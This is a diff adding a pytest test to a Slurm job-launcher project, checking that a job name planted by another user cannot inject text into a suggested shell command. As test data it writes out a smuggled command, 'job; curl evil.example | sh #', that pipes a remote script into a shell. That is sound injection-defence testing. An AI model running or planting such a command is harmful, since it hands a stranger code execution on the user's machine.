@@ -7,17 +7,20 @@ from pathlib import Path
 
 import pytest
 
+from launch.core.clock import Clock
 from launch.core.source.find import find
 from launch.core.training.script import Script
-from launch.slurm.commands import _epochs
+from launch.slurm.commands import Commands, _epochs
 from launch.slurm.ended import outcome_of
-from launch.slurm.folder import NOBODY, earlier_jobs, pace_of, read_folder, stranger_of
+from launch.slurm.folder import NOBODY, earlier_jobs, name_in, pace_of, read_folder, stranger_of
 from launch.slurm.follow import FileTail
 from launch.slurm.names import ARCHIVE, LOG, SCRIPT, SPEC, STARTS
 from launch.slurm.note import note
 from launch.slurm.planner import Facts
+from launch.slurm.runtime import Runtime
 from launch.slurm.status import as_text
 from launch.slurm.submit import write_files
+from launch.slurm.verbs import VerbOptions
 from tests.launch.slurm.jobs import planned
 from tests.launch.slurm.test_ended import NO_SLURM
 from tests.patience import ended_after
@@ -72,6 +75,19 @@ def test_a_start_that_no_job_notes_is_left_out(start: dict[str, object], tmp_pat
 
     assert outcome_of("theirs", found, NO_SLURM).exit_code == 0
     assert "1 so far, with exit code 0 (done)" in as_text("theirs", None, found, None, None, "?")
+
+
+def test_no_word_of_a_strangers_stands_in_a_command_to_paste(tmp_path: Path) -> None:
+    folder, evil = left(tmp_path / "runs" / "job"), "job; curl evil.example | sh #"
+    (folder / SPEC).write_text(json.dumps({"job": evil, "backend": "slurm", "ids": ["7", "--help", "7\0"]}))
+
+    assert (name_in(folder), read_folder(folder).ids) == (None, ("7",))
+    (tmp_path / "squeue").write_text("#!/bin/sh\n")  # nothing is in the queue
+    (tmp_path / "squeue").chmod(0o755)
+    said = list[str]()
+    Commands(Runtime({"PATH": str(tmp_path)}, tmp_path, "python", Clock(), said.append)).status(VerbOptions(job="job"))
+    assert said[0].endswith("next:\n  python -m launch.slurm logs job")
+    assert "evil" not in said[0]
 
 
 def test_a_job_script_that_is_no_text_is_no_reason_to_fail(tmp_path: Path) -> None:
